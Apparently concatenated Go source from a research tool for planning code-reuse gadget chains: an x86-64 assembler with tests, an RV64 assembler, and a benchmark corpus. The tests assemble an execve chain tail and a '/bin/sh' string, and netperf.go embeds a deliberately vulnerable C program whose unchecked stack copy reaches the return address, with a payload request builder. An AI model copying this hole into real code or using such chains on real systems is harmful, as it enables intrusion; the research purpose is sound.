	if len(s.cache) >= maxCacheGeneration {
		s.prevCache = s.cache
		s.cache = make(map[string]Result, len(s.prevCache)/2)
	}
	s.cache[key] = r
}
