package asm

import (
	"bytes"
	"testing"

	"github.com/nofreelunch/gadget-planner/internal/isa"
)

func TestAssembleBasic(t *testing.T) {
	r, err := Assemble("pop rdi; ret", 0)
	if err != nil {
		t.Fatal(err)
	}
	want := []byte{0x5F, 0xC3}
	if !bytes.Equal(r.Code, want) {
		t.Fatalf("code = %x, want %x", r.Code, want)
	}
}

func TestAssembleLabelsAndBranches(t *testing.T) {
	src := `
start:
    mov rax, 0
loop:
    add rax, 2
    cmp rax, 10
    jne loop
    ret
`
	r, err := Assemble(src, 0x400000)
	if err != nil {
		t.Fatal(err)
	}
	if r.Labels["start"] != 0x400000 {
		t.Errorf("start = %#x", r.Labels["start"])
	}
	loopAddr := r.Labels["loop"]
	if loopAddr <= 0x400000 {
		t.Fatalf("loop label not after start: %#x", loopAddr)
	}
	// Decode and verify the jne targets the loop label.
	var jcc *isa.Inst
	pos := 0
	for pos < len(r.Code) {
		inst, err := isa.Decode(r.Code[pos:], 0x400000+uint64(pos))
		if err != nil {
			t.Fatalf("decode at %d: %v", pos, err)
		}
		if inst.Op == isa.OpJcc {
			jcc = &inst
		}
		pos += int(inst.Len)
	}
	if jcc == nil {
		t.Fatal("no jcc emitted")
	}
	if uint64(jcc.A.Imm) != loopAddr {
		t.Errorf("jne target = %#x, want %#x", jcc.A.Imm, loopAddr)
	}
}

func TestAssembleMemoryOperands(t *testing.T) {
	src := `
    mov rax, qword [rsp+0x10]
    mov qword [rbp-8], rdi
    mov byte [rdi], 0x41
    lea rcx, [rbx+rdx*4+0x20]
    movzx eax, byte [rsi]
`
	r, err := Assemble(src, 0)
	if err != nil {
		t.Fatal(err)
	}
	var got []string
	pos := 0
	for pos < len(r.Code) {
		inst, err := isa.Decode(r.Code[pos:], uint64(pos))
		if err != nil {
			t.Fatalf("decode: %v", err)
		}
		got = append(got, inst.String())
		pos += int(inst.Len)
	}
	want := []string{
		"mov rax, qword [rsp+0x10]",
		"mov qword [rbp-0x8], rdi",
		"mov byte [rdi], 0x41",
		"lea rcx, qword [rbx+rdx*4+0x20]",
		"movzx eax, byte [rsi]",
	}
	if len(got) != len(want) {
		t.Fatalf("decoded %d instructions, want %d: %v", len(got), len(want), got)
	}
	for i := range want {
		if got[i] != want[i] {
			t.Errorf("inst %d = %q, want %q", i, got[i], want[i])
		}
	}
}

func TestAssembleData(t *testing.T) {
	src := `
msg: .asciz "/bin/sh"
    .align 8
tbl: .quad 1, msg, -1
`
	r, err := Assemble(src, 0x1000)
	if err != nil {
		t.Fatal(err)
	}
	if r.Labels["msg"] != 0x1000 {
		t.Errorf("msg = %#x", r.Labels["msg"])
	}
	if r.Labels["tbl"]%8 != 0 {
		t.Errorf("tbl not aligned: %#x", r.Labels["tbl"])
	}
	if !bytes.HasPrefix(r.Code, []byte("/bin/sh\x00")) {
		t.Errorf("missing asciz payload: %x", r.Code[:8])
	}
	// Second quad must hold the msg address.
	off := int(r.Labels["tbl"] - 0x1000)
	var v uint64
	for b := 0; b < 8; b++ {
		v |= uint64(r.Code[off+8+b]) << (8 * b)
	}
	if v != r.Labels["msg"] {
		t.Errorf("tbl[1] = %#x, want %#x", v, r.Labels["msg"])
	}
}

func TestAssembleConditionAliases(t *testing.T) {
	r, err := Assemble("jz done; jnz done; done: ret", 0)
	if err != nil {
		t.Fatal(err)
	}
	i0, err := isa.Decode(r.Code, 0)
	if err != nil || i0.Cond != isa.CondE {
		t.Errorf("jz: %v cond %v", err, i0.Cond)
	}
	i1, err := isa.Decode(r.Code[i0.Len:], uint64(i0.Len))
	if err != nil || i1.Cond != isa.CondNE {
		t.Errorf("jnz: %v cond %v", err, i1.Cond)
	}
}

func TestAssembleSyscallChainSnippet(t *testing.T) {
	// A typical execve gadget-chain tail.
	src := `
    pop rax
    pop rdi
    pop rsi
    pop rdx
    syscall
`
	r, err := Assemble(src, 0)
	if err != nil {
		t.Fatal(err)
	}
	want := []byte{0x58, 0x5F, 0x5E, 0x5A, 0x0F, 0x05}
	if !bytes.Equal(r.Code, want) {
		t.Fatalf("code = %x, want %x", r.Code, want)
	}
}

func TestAssembleErrors(t *testing.T) {
	cases := []string{
		"bogus rax",
		"jxx label",
		"mov rax, [unclosed",
		".align 3",
		"jmp undefined_label",
		".quad undefined_label",
	}
	for _, src := range cases {
		if _, err := Assemble(src, 0); err == nil {
			t.Errorf("Assemble(%q) succeeded, want error", src)
		}
	}
}

func TestMovabsLabel(t *testing.T) {
	src := `
    movabs rax, data
    ret
data: .quad 42
`
	r, err := Assemble(src, 0x400000)
	if err != nil {
		t.Fatal(err)
	}
	inst, err := isa.Decode(r.Code, 0x400000)
	if err != nil {
		t.Fatal(err)
	}
	if inst.Op != isa.OpMov || uint64(inst.B.Imm) != r.Labels["data"] {
		t.Errorf("mov = %s, data = %#x", inst, r.Labels["data"])
	}
}
