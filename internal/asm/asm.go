// Package asm implements a small two-pass textual assembler for the x86-64
// subset in internal/isa.
//
// Syntax is Intel-flavoured, one instruction per line or per ';'-separated
// field ("pop rdi; ret"). '#' starts a comment. Labels are "name:"
// definitions; a label may be used as a branch target or as an immediate.
// Supported directives: .byte, .quad, .asciz, .align.
package asm

import (
	"fmt"
	"strconv"
	"strings"

	"github.com/nofreelunch/gadget-planner/internal/isa"
)

// item is one assembly statement after parsing.
type item struct {
	label string // label definition ("" if none)

	inst    isa.Inst
	hasInst bool
	// labelRef names a label whose address should replace the immediate of
	// operand A (branch target) or B (mov/lea source).
	labelRefA string
	labelRefB string

	data  []byte // literal bytes (.byte/.quad/.asciz payloads)
	quads []quadRef
	align int
	line  int
}

// quadRef is a .quad entry that may reference a label.
type quadRef struct {
	value    int64
	labelRef string
}

// SyntaxError reports a problem in the assembly source.
type SyntaxError struct {
	Line int
	Msg  string
}

func (e *SyntaxError) Error() string {
	return fmt.Sprintf("asm: line %d: %s", e.Line, e.Msg)
}

func synErr(line int, format string, args ...any) error {
	return &SyntaxError{Line: line, Msg: fmt.Sprintf(format, args...)}
}

// Result is the output of assembling a source text.
type Result struct {
	Code   []byte
	Labels map[string]uint64
}

// Assemble translates source into machine code based at the given address.
func Assemble(src string, base uint64) (*Result, error) {
	return AssembleWithSymbols(src, base, nil)
}

// AssembleWithSymbols assembles with pre-defined external symbols (e.g.
// addresses of data-section globals) available as labels.
func AssembleWithSymbols(src string, base uint64, extern map[string]uint64) (*Result, error) {
	items, err := parse(src)
	if err != nil {
		return nil, err
	}
	return layout(items, base, extern)
}

// MustAssemble is a test/example helper that panics on error.
func MustAssemble(src string, base uint64) *Result {
	r, err := Assemble(src, base)
	if err != nil {
		panic(err)
	}
	return r
}

func parse(src string) ([]item, error) {
	var items []item
	for lineNo, rawLine := range strings.Split(src, "\n") {
		line := rawLine
		if i := strings.IndexByte(line, '#'); i >= 0 {
			line = line[:i]
		}
		for _, stmt := range strings.Split(line, ";") {
			stmt = strings.TrimSpace(stmt)
			if stmt == "" {
				continue
			}
			it, err := parseStmt(stmt, lineNo+1)
			if err != nil {
				return nil, err
			}
			items = append(items, it...)
		}
	}
	return items, nil
}

func parseStmt(stmt string, line int) ([]item, error) {
	// Label definition, possibly followed by nothing.
	if i := strings.IndexByte(stmt, ':'); i >= 0 && !strings.ContainsAny(stmt[:i], " \t[") {
		name := strings.TrimSpace(stmt[:i])
		rest := strings.TrimSpace(stmt[i+1:])
		items := []item{{label: name, line: line}}
		if rest != "" {
			more, err := parseStmt(rest, line)
			if err != nil {
				return nil, err
			}
			items = append(items, more...)
		}
		return items, nil
	}

	if strings.HasPrefix(stmt, ".") {
		it, err := parseDirective(stmt, line)
		if err != nil {
			return nil, err
		}
		return []item{it}, nil
	}

	it, err := parseInst(stmt, line)
	if err != nil {
		return nil, err
	}
	return []item{it}, nil
}

func parseDirective(stmt string, line int) (item, error) {
	fields := strings.SplitN(stmt, " ", 2)
	dir := fields[0]
	arg := ""
	if len(fields) == 2 {
		arg = strings.TrimSpace(fields[1])
	}
	switch dir {
	case ".byte":
		var data []byte
		for _, f := range strings.Split(arg, ",") {
			v, err := parseInt(strings.TrimSpace(f))
			if err != nil {
				return item{}, synErr(line, "bad .byte value %q", f)
			}
			data = append(data, byte(v))
		}
		return item{data: data, line: line}, nil
	case ".quad":
		var quads []quadRef
		for _, f := range strings.Split(arg, ",") {
			f = strings.TrimSpace(f)
			if v, err := parseInt(f); err == nil {
				quads = append(quads, quadRef{value: v})
			} else {
				quads = append(quads, quadRef{labelRef: f})
			}
		}
		return item{quads: quads, line: line}, nil
	case ".asciz":
		s, err := strconv.Unquote(arg)
		if err != nil {
			return item{}, synErr(line, "bad .asciz string %s", arg)
		}
		return item{data: append([]byte(s), 0), line: line}, nil
	case ".align":
		n, err := parseInt(arg)
		if err != nil || n <= 0 || n&(n-1) != 0 {
			return item{}, synErr(line, "bad .align value %q", arg)
		}
		return item{align: int(n), line: line}, nil
	}
	return item{}, synErr(line, "unknown directive %s", dir)
}

func parseInt(s string) (int64, error) {
	neg := false
	if strings.HasPrefix(s, "-") {
		neg = true
		s = s[1:]
	}
	v, err := strconv.ParseUint(s, 0, 64)
	if err != nil {
		return 0, err
	}
	iv := int64(v)
	if neg {
		iv = -iv
	}
	return iv, nil
}

// operand is a parsed operand that may carry an unresolved label.
type operand struct {
	op       isa.Operand
	size     uint8 // size implied by the operand's syntax (0 if unknown)
	labelRef string
}

func parseOperand(s string, line int) (operand, error) {
	s = strings.TrimSpace(s)
	// Optional size keyword before a memory operand.
	var size uint8
	for kw, sz := range map[string]uint8{"byte": 1, "dword": 4, "qword": 8} {
		if strings.HasPrefix(s, kw+" ") || strings.HasPrefix(s, kw+"[") {
			size = sz
			s = strings.TrimSpace(strings.TrimPrefix(s, kw))
			break
		}
	}

	if strings.HasPrefix(s, "[") {
		if !strings.HasSuffix(s, "]") {
			return operand{}, synErr(line, "unterminated memory operand %q", s)
		}
		m, err := parseMem(s[1:len(s)-1], line)
		if err != nil {
			return operand{}, err
		}
		return operand{op: isa.Operand{Kind: isa.KindMem, Mem: m}, size: size}, nil
	}

	if r, ok := isa.RegByName(s); ok {
		switch {
		case strings.HasPrefix(s, "e") || strings.HasSuffix(s, "d") && strings.HasPrefix(s, "r") && len(s) > 2 && s[1] >= '0' && s[1] <= '9':
			size = 4
		case r.Name(1) == s:
			size = 1
		case r.Name(4) == s:
			size = 4
		default:
			size = 8
		}
		return operand{op: isa.RegOp(r), size: size}, nil
	}

	if v, err := parseInt(s); err == nil {
		return operand{op: isa.ImmOp(v)}, nil
	}

	// Otherwise a label reference, resolved during layout.
	if strings.ContainsAny(s, " \t,[]") {
		return operand{}, synErr(line, "bad operand %q", s)
	}
	return operand{op: isa.ImmOp(0), labelRef: s}, nil
}

// parseMem parses the inside of a bracketed memory operand:
// base [+ index[*scale]] [+/- disp] or rip+disp or a bare displacement.
func parseMem(s string, line int) (isa.Mem, error) {
	var m isa.Mem
	s = strings.ReplaceAll(s, " ", "")
	s = strings.ReplaceAll(s, "-", "+-")
	for _, part := range strings.Split(s, "+") {
		if part == "" {
			continue
		}
		if part == "rip" {
			m.RIPRel = true
			continue
		}
		if star := strings.IndexByte(part, '*'); star >= 0 {
			r, ok := isa.RegByName(part[:star])
			if !ok {
				return m, synErr(line, "bad index register %q", part[:star])
			}
			sc, err := parseInt(part[star+1:])
			if err != nil {
				return m, synErr(line, "bad scale %q", part[star+1:])
			}
			m.Index, m.HasIndex, m.Scale = r, true, uint8(sc)
			continue
		}
		if r, ok := isa.RegByName(part); ok {
			if m.HasBase {
				m.Index, m.HasIndex, m.Scale = r, true, 1
			} else {
				m.Base, m.HasBase = r, true
			}
			continue
		}
		v, err := parseInt(part)
		if err != nil {
			return m, synErr(line, "bad memory component %q", part)
		}
		m.Disp += int32(v)
	}
	return m, nil
}

var _mnemonics = map[string]isa.Op{
	"mov": isa.OpMov, "lea": isa.OpLea, "add": isa.OpAdd, "sub": isa.OpSub,
	"and": isa.OpAnd, "or": isa.OpOr, "xor": isa.OpXor, "cmp": isa.OpCmp,
	"test": isa.OpTest, "not": isa.OpNot, "neg": isa.OpNeg, "imul": isa.OpImul,
	"shl": isa.OpShl, "shr": isa.OpShr, "sar": isa.OpSar, "inc": isa.OpInc,
	"dec": isa.OpDec, "push": isa.OpPush, "pop": isa.OpPop, "ret": isa.OpRet,
	"jmp": isa.OpJmp, "call": isa.OpCall, "syscall": isa.OpSyscall,
	"nop": isa.OpNop, "leave": isa.OpLeave, "int3": isa.OpInt3, "hlt": isa.OpHlt,
	"xchg": isa.OpXchg, "movzx": isa.OpMovzx, "movsxd": isa.OpMovsxd,
	"cqo": isa.OpCqo, "idiv": isa.OpIdiv,
}

var _condByName = map[string]isa.Cond{
	"o": isa.CondO, "no": isa.CondNO, "b": isa.CondB, "c": isa.CondB,
	"ae": isa.CondAE, "nc": isa.CondAE, "e": isa.CondE, "z": isa.CondE,
	"ne": isa.CondNE, "nz": isa.CondNE, "be": isa.CondBE, "a": isa.CondA,
	"s": isa.CondS, "ns": isa.CondNS, "p": isa.CondP, "np": isa.CondNP,
	"l": isa.CondL, "ge": isa.CondGE, "le": isa.CondLE, "g": isa.CondG,
}

func parseInst(stmt string, line int) (item, error) {
	mn := stmt
	rest := ""
	if i := strings.IndexAny(stmt, " \t"); i >= 0 {
		mn, rest = stmt[:i], strings.TrimSpace(stmt[i+1:])
	}
	mn = strings.ToLower(mn)

	var inst isa.Inst
	switch {
	case mn == "movabs":
		inst.Op = isa.OpMov
	case strings.HasPrefix(mn, "j") && mn != "jmp":
		cc, ok := _condByName[mn[1:]]
		if !ok {
			return item{}, synErr(line, "unknown mnemonic %q", mn)
		}
		inst.Op, inst.Cond = isa.OpJcc, cc
	case strings.HasPrefix(mn, "set"):
		cc, ok := _condByName[mn[3:]]
		if !ok {
			return item{}, synErr(line, "unknown mnemonic %q", mn)
		}
		inst.Op, inst.Cond, inst.Size = isa.OpSetcc, cc, 1
	default:
		op, ok := _mnemonics[mn]
		if !ok {
			return item{}, synErr(line, "unknown mnemonic %q", mn)
		}
		inst.Op = op
	}

	it := item{hasInst: true, line: line}
	if rest != "" {
		ops := splitOperands(rest)
		if len(ops) > 2 {
			return item{}, synErr(line, "too many operands in %q", stmt)
		}
		a, err := parseOperand(ops[0], line)
		if err != nil {
			return item{}, err
		}
		inst.A = a.op
		it.labelRefA = a.labelRef
		sz := a.size
		if len(ops) == 2 {
			b, err := parseOperand(ops[1], line)
			if err != nil {
				return item{}, err
			}
			inst.B = b.op
			it.labelRefB = b.labelRef
			// For movzx/movsxd the destination size rules; otherwise take
			// any explicit size from either operand.
			if sz == 0 || (b.size != 0 && inst.Op != isa.OpMovzx && inst.Op != isa.OpMovsxd &&
				!(inst.Op >= isa.OpShl && inst.Op <= isa.OpSar) && b.size > sz && a.op.Kind == isa.KindMem) {
				if b.size != 0 && sz == 0 {
					sz = b.size
				}
			}
		}
		if inst.Size == 0 {
			inst.Size = sz
		}
	}
	if inst.Size == 0 {
		inst.Size = 8
	}
	it.inst = inst
	return it, nil
}

// splitOperands splits on commas not inside brackets.
func splitOperands(s string) []string {
	var out []string
	depth := 0
	start := 0
	for i := 0; i < len(s); i++ {
		switch s[i] {
		case '[':
			depth++
		case ']':
			depth--
		case ',':
			if depth == 0 {
				out = append(out, strings.TrimSpace(s[start:i]))
				start = i + 1
			}
		}
	}
	out = append(out, strings.TrimSpace(s[start:]))
	return out
}

// layout performs iterative size resolution and final encoding.
func layout(items []item, base uint64, extern map[string]uint64) (*Result, error) {
	labels := make(map[string]uint64, len(extern))
	for name, addr := range extern {
		labels[name] = addr
	}
	// Iterate to a fixpoint: label values feed immediate widths which feed
	// instruction sizes which feed label values.
	sizes := make([]int, len(items))
	for iter := 0; iter < 8; iter++ {
		addr := base
		changed := false
		for i := range items {
			it := &items[i]
			if it.align > 0 {
				pad := int((uint64(it.align) - addr%uint64(it.align)) % uint64(it.align))
				if sizes[i] != pad {
					sizes[i], changed = pad, true
				}
				addr += uint64(pad)
				continue
			}
			if it.label != "" && !it.hasInst {
				if labels[it.label] != addr {
					labels[it.label] = addr
					changed = true
				}
				continue
			}
			var sz int
			switch {
			case it.hasInst:
				inst := it.inst
				resolveRefs(&inst, *it, labels)
				enc, err := isa.Encode(inst, addr)
				if err != nil {
					return nil, fmt.Errorf("asm: line %d: %w", it.line, err)
				}
				sz = len(enc)
			case it.quads != nil:
				sz = 8 * len(it.quads)
			default:
				sz = len(it.data)
			}
			if sizes[i] != sz {
				sizes[i], changed = sz, true
			}
			addr += uint64(sz)
		}
		if !changed {
			break
		}
		if iter == 7 {
			return nil, fmt.Errorf("asm: layout did not converge")
		}
	}

	// Final encode with resolved labels.
	var code []byte
	addr := base
	for i := range items {
		it := &items[i]
		switch {
		case it.align > 0:
			for j := 0; j < sizes[i]; j++ {
				code = append(code, 0x90)
			}
		case it.hasInst:
			inst := it.inst
			if err := resolveRefsStrict(&inst, *it, labels); err != nil {
				return nil, err
			}
			enc, err := isa.Encode(inst, addr)
			if err != nil {
				return nil, fmt.Errorf("asm: line %d: %w", it.line, err)
			}
			code = append(code, enc...)
		case it.quads != nil:
			for _, q := range it.quads {
				v := q.value
				if q.labelRef != "" {
					lv, ok := labels[q.labelRef]
					if !ok {
						return nil, fmt.Errorf("asm: line %d: undefined label %q", it.line, q.labelRef)
					}
					v = int64(lv)
				}
				for b := 0; b < 8; b++ {
					code = append(code, byte(uint64(v)>>(8*b)))
				}
			}
		default:
			code = append(code, it.data...)
		}
		addr += uint64(sizes[i])
	}
	return &Result{Code: code, Labels: labels}, nil
}

func resolveRefs(inst *isa.Inst, it item, labels map[string]uint64) {
	if it.labelRefA != "" {
		inst.A.Imm = int64(labels[it.labelRefA])
	}
	if it.labelRefB != "" {
		inst.B.Imm = int64(labels[it.labelRefB])
	}
}

func resolveRefsStrict(inst *isa.Inst, it item, labels map[string]uint64) error {
	for _, ref := range []string{it.labelRefA, it.labelRefB} {
		if ref == "" {
			continue
		}
		if _, ok := labels[ref]; !ok {
			return fmt.Errorf("asm: line %d: undefined label %q", it.line, ref)
		}
	}
	resolveRefs(inst, it, labels)
	return nil
}
