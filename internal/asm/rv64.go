// RV64 program assembly. Unlike the textual x86-64 assembler, the RV64
// path is programmatic: the code generator appends isa.Inst values and
// label references to an RVProg, and Assemble lays them out and encodes
// them through the rv64 backend. Every emitted instruction is a fixed four
// bytes (no compressed forms), so layout is a single pass: addresses are
// assigned first, label references are patched into absolute-immediate
// operands, and the backend encoder turns each patched instruction into
// bytes — rejecting out-of-range branches rather than relaxing them (the
// code generator emits branches in a range-safe form).
package asm

import (
	"fmt"

	"github.com/nofreelunch/gadget-planner/internal/isa"
)

// rvItem is one RV64 program element: an instruction, a label definition,
// literal data, or an alignment request.
type rvItem struct {
	inst    isa.Inst
	hasInst bool
	// refA names a label whose absolute address replaces the immediate of
	// operand A (branch/jump targets).
	refA string

	// la is a load-address macro: materialize refA's address into laReg as
	// a fixed lui+addi pair (8 bytes). Addresses must fit in signed 32 bits,
	// which all SBF layouts do.
	la    bool
	laReg isa.Reg

	label string
	quads []quadRef
	data  []byte
	align int
}

// RVProg accumulates an RV64 program for single-pass assembly.
type RVProg struct {
	items []rvItem
}

// Label defines a label at the current position.
func (p *RVProg) Label(name string) { p.items = append(p.items, rvItem{label: name}) }

// Inst appends a fully-resolved instruction.
func (p *RVProg) Inst(inst isa.Inst) { p.items = append(p.items, rvItem{inst: inst, hasInst: true}) }

// InstRef appends an instruction whose operand A immediate is the address
// of a label, resolved at assembly time (branch and jump targets).
func (p *RVProg) InstRef(inst isa.Inst, label string) {
	p.items = append(p.items, rvItem{inst: inst, hasInst: true, refA: label})
}

// La appends a load-address macro: lui+addi materializing the label's
// absolute address into rd.
func (p *RVProg) La(rd isa.Reg, label string) {
	p.items = append(p.items, rvItem{la: true, laReg: rd, refA: label})
}

// Quad appends an 8-byte little-endian literal.
func (p *RVProg) Quad(v int64) {
	p.items = append(p.items, rvItem{quads: []quadRef{{value: v}}})
}

// QuadLabel appends an 8-byte slot holding a label's address (jump tables).
func (p *RVProg) QuadLabel(label string) {
	p.items = append(p.items, rvItem{quads: []quadRef{{labelRef: label}}})
}

// Bytes appends literal data bytes.
func (p *RVProg) Bytes(b []byte) { p.items = append(p.items, rvItem{data: b}) }

// Align pads with canonical nops (addi x0,x0,0) to a power-of-two boundary.
func (p *RVProg) Align(n int) { p.items = append(p.items, rvItem{align: n}) }

// Assemble lays the program out at base and encodes it. extern supplies
// pre-defined symbols (data-section globals) usable as labels.
func (p *RVProg) Assemble(base uint64, extern map[string]uint64) (*Result, error) {
	labels := make(map[string]uint64, len(extern)+16)
	for name, addr := range extern {
		labels[name] = addr
	}

	// Pass 1: assign addresses. Instruction size is a fixed 4 bytes.
	sizes := make([]int, len(p.items))
	defined := make(map[string]bool, 16)
	addr := base
	for i := range p.items {
		it := &p.items[i]
		switch {
		case it.align > 0:
			pad := int((uint64(it.align) - addr%uint64(it.align)) % uint64(it.align))
			if pad%4 != 0 {
				return nil, fmt.Errorf("asm: rv64 .align %d not a multiple of 4 at %#x", it.align, addr)
			}
			sizes[i] = pad
		case it.label != "":
			if defined[it.label] {
				return nil, fmt.Errorf("asm: duplicate label %q", it.label)
			}
			defined[it.label] = true
			labels[it.label] = addr
		case it.la:
			sizes[i] = 8
		case it.hasInst:
			sizes[i] = 4
		case it.quads != nil:
			sizes[i] = 8 * len(it.quads)
		default:
			sizes[i] = len(it.data)
		}
		addr += uint64(sizes[i])
	}

	// Pass 2: patch label references and encode.
	var code []byte
	addr = base
	nop := mustEncodeNop()
	for i := range p.items {
		it := &p.items[i]
		switch {
		case it.align > 0:
			for j := 0; j < sizes[i]; j += 4 {
				code = append(code, nop...)
			}
		case it.la:
			target, ok := labels[it.refA]
			if !ok {
				return nil, fmt.Errorf("asm: undefined label %q", it.refA)
			}
			v := int64(target)
			if v != int64(int32(v)) {
				return nil, fmt.Errorf("asm: la %q: address %#x exceeds 32 bits", it.refA, target)
			}
			lo := int64(int32(uint32(v)&0xFFF) << 20 >> 20)
			hi := v - lo
			if hi != int64(int32(hi)) {
				return nil, fmt.Errorf("asm: la %q: address %#x exceeds the lui range", it.refA, target)
			}
			lui, err := isa.RV64.Encode(isa.Inst{Op: isa.OpMov, Size: 8,
				A: isa.RegOp(it.laReg), B: isa.ImmOp(hi)}, addr)
			if err != nil {
				return nil, fmt.Errorf("asm: rv64 la at %#x: %w", addr, err)
			}
			code = append(code, lui...)
			addi, err := isa.RV64.Encode(isa.Inst{Op: isa.OpAdd, Size: 8,
				A: isa.RegOp(it.laReg), B: isa.RegOp(it.laReg), C: isa.ImmOp(lo)}, addr+4)
			if err != nil {
				return nil, fmt.Errorf("asm: rv64 la at %#x: %w", addr, err)
			}
			code = append(code, addi...)
		case it.hasInst:
			inst := it.inst
			if it.refA != "" {
				target, ok := labels[it.refA]
				if !ok {
					return nil, fmt.Errorf("asm: undefined label %q", it.refA)
				}
				inst.A.Imm = int64(target)
			}
			enc, err := isa.RV64.Encode(inst, addr)
			if err != nil {
				return nil, fmt.Errorf("asm: rv64 at %#x: %w", addr, err)
			}
			code = append(code, enc...)
		case it.quads != nil:
			for _, q := range it.quads {
				v := q.value
				if q.labelRef != "" {
					lv, ok := labels[q.labelRef]
					if !ok {
						return nil, fmt.Errorf("asm: undefined label %q", q.labelRef)
					}
					v = int64(lv)
				}
				for b := 0; b < 8; b++ {
					code = append(code, byte(uint64(v)>>(8*b)))
				}
			}
		default:
			code = append(code, it.data...)
		}
		addr += uint64(sizes[i])
	}
	return &Result{Code: code, Labels: labels}, nil
}

func mustEncodeNop() []byte {
	enc, err := isa.RV64.Encode(isa.Inst{Op: isa.OpNop}, 0)
	if err != nil {
		panic(err)
	}
	return enc
}
