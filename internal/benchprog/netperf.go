package benchprog

// Netperf returns the netperf-like vulnerable program of the paper's case
// study (Section VI-C). It models a network benchmark tool's option parser:
// break_args is reproduced from the paper's Fig. 7 (splitting "host,port"
// option values into two fixed-size stack buffers with no length checking).
//
// The exploit entry point: the tool reads a request from stdin; the option
// payload length is attacker-controlled, and handle_option copies it into
// 32-byte stack buffers via break_args semantics. Writing past the buffers
// reaches the saved return address — the paper's stack memory write
// primitive. (The copy is bounded by the attacker-supplied length rather
// than a NUL terminator so payloads may contain zero bytes; see DESIGN.md.)
func Netperf() Program {
	return Program{
		Name:        "netperf",
		Description: "network option parser with a Fig. 7 stack overflow",
		Source:      srcNetperf,
	}
}

const srcNetperf = `
char reqbuf[8192];
int reqlen = 0;

// break_args from the paper's Fig. 7: split "a,b" at the comma into arg1
// and arg2 with unchecked copies.
void break_args(char *s, char *arg1, char *arg2) {
    char *ns;
    int i = 0;
    ns = 0;
    while (s[i]) {
        if (s[i] == ',') { ns = &s[i]; break; }
        i++;
    }
    if (ns) {
        *ns = 0;
        ns = ns + 1;
        while (1) {
            char c = *ns;
            *arg2 = c;
            if (c == 0) break;
            arg2 = arg2 + 1;
            ns = ns + 1;
        }
    } else {
        ns = s;
        while (1) {
            char c = *ns;
            *arg2 = c;
            if (c == 0) break;
            arg2 = arg2 + 1;
            ns = ns + 1;
        }
    }
    while (1) {
        char c = *s;
        *arg1 = c;
        if (c == 0) break;
        arg1 = arg1 + 1;
        s = s + 1;
    }
}

// handle_option processes one '-a'-style option payload of the given
// length: the bounded-length variant of the same unchecked-copy bug.
int handle_option(char *payload, int n) {
    char arg1[32];
    char arg2[32];
    int i;
    for (i = 0; i < n; i++) {
        arg1[i] = payload[i];
    }
    arg2[0] = 0;
    // Pretend to parse host into arg2 for realism.
    break_args(arg1, arg1, arg2);
    return arg1[0] + arg2[0];
}

int checksum(char *p, int n) {
    int acc = 0;
    int i;
    for (i = 0; i < n; i++) acc = acc * 131 + p[i];
    return acc;
}

int main() {
    // Request: [1 byte opcode][2 byte length LE][payload...]
    reqlen = __read(0, &reqbuf[0], 8192);
    if (reqlen < 3) {
        print_str("short request\n");
        return 1;
    }
    int op = reqbuf[0];
    int n = reqbuf[1] + reqbuf[2] * 256;
    if (n > reqlen - 3) n = reqlen - 3;

    if (op == 'a') {
        // The vulnerable option path.
        int r = handle_option(&reqbuf[3], n);
        print_str("option handled: ");
        print_int(r);
        print_char('\n');
        return 0;
    }
    if (op == 'c') {
        print_str("checksum: ");
        print_int(checksum(&reqbuf[3], n));
        print_char('\n');
        return 0;
    }
    print_str("unknown op\n");
    return 2;
}
`

// NetperfRequest builds the stdin request triggering the vulnerable path
// with the given option payload.
func NetperfRequest(payload []byte) []byte {
	req := make([]byte, 3+len(payload))
	req[0] = 'a'
	req[1] = byte(len(payload))
	req[2] = byte(len(payload) >> 8)
	copy(req[3:], payload)
	return req
}
