// Package benchprog holds the benchmark corpus: MiniC programs standing in
// for the Banescu et al. obfuscation benchmark, SPEC-style larger programs
// (Table VI), and the netperf-like vulnerable network tool used in the
// paper's case study (Section VI-C). Each program is deterministic; its
// plain-build output is the ground truth obfuscated builds must reproduce.
package benchprog

import (
	"fmt"
	"sync"

	"github.com/nofreelunch/gadget-planner/internal/codegen"
	"github.com/nofreelunch/gadget-planner/internal/mir"
	"github.com/nofreelunch/gadget-planner/internal/obfuscate"
	"github.com/nofreelunch/gadget-planner/internal/sbf"
)

// Program is one benchmark.
type Program struct {
	Name        string
	Description string
	Source      string
	Stdin       []byte
}

// Build compiles the program for x86-64, optionally applying obfuscation
// passes.
func Build(p Program, passes []obfuscate.Pass, seed int64) (*sbf.Binary, error) {
	return BuildISA(p, passes, seed, "")
}

// BuildISA compiles the program for the named instruction set ("", "x64",
// "rv64", "rv64c"), optionally applying obfuscation passes. Obfuscation runs
// on the ISA-independent MIR, so every backend sees the same transformed
// module.
func BuildISA(p Program, passes []obfuscate.Pass, seed int64, isaName string) (*sbf.Binary, error) {
	var transform func(*mir.Module) error
	if len(passes) > 0 {
		transform = func(m *mir.Module) error {
			return obfuscate.Apply(m, seed, passes...)
		}
	}
	bin, err := codegen.BuildProgram(p.Source, transform, codegen.Options{ISA: isaName})
	if err != nil {
		return nil, fmt.Errorf("benchprog: %s: %w", p.Name, err)
	}
	return bin, nil
}

// Run executes a built benchmark in the emulator.
func Run(bin *sbf.Binary, p Program) (*codegen.RunResult, error) {
	return codegen.Run(bin, p.Stdin, 0)
}

// Benchmarks returns the Banescu-style corpus (Fig. 1 / Table I / Table IV).
func Benchmarks() []Program {
	return []Program{
		{Name: "bubblesort", Description: "bubble sort over a pseudo-random array", Source: srcBubbleSort},
		{Name: "insertsort", Description: "insertion sort with sentinel search", Source: srcInsertSort},
		{Name: "matrixmult", Description: "dense 8x8 integer matrix multiply", Source: srcMatrixMult},
		{Name: "crc", Description: "bitwise CRC over a message buffer", Source: srcCRC},
		{Name: "streamcipher", Description: "RC4-style keystream xor cipher", Source: srcStreamCipher},
		{Name: "fibonacci", Description: "iterative and recursive Fibonacci", Source: srcFibonacci},
		{Name: "primes", Description: "sieve of Eratosthenes", Source: srcPrimes},
		{Name: "queens", Description: "N-queens solution counting", Source: srcQueens},
		{Name: "hanoi", Description: "towers of Hanoi move trace checksum", Source: srcHanoi},
		{Name: "strsearch", Description: "naive substring search", Source: srcStrSearch},
		{Name: "bitops", Description: "population count and bit tricks", Source: srcBitops},
		{Name: "tea", Description: "TEA-style block cipher rounds", Source: srcTEA},
	}
}

// Spec returns the SPEC-CPU-style larger programs (Table VI). Names follow
// the paper's benchmark selection; the programs are same-flavour stand-ins
// (see DESIGN.md substitutions).
func Spec() []Program {
	return []Program{
		{Name: "401.bzip2", Description: "RLE + move-to-front compressor round trip", Source: srcBzip2Sim},
